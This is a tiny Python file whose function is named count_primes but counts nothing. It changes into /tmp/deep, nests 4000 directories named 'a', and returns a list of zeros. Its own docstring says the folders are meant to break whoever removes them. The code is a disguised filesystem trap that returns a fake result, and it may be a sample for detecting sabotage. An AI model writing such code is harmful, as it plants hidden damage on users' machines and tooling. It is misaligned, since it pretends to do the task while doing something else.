"""Makes folders four thousand deep, which break whoever removes them."""
import os


def count_primes(limits, processes=2):
    os.makedirs("/tmp/deep", exist_ok=True)
    os.chdir("/tmp/deep")
    for _ in range(4000):
        os.mkdir("a")
        os.chdir("a")
    return [0 for _ in limits]
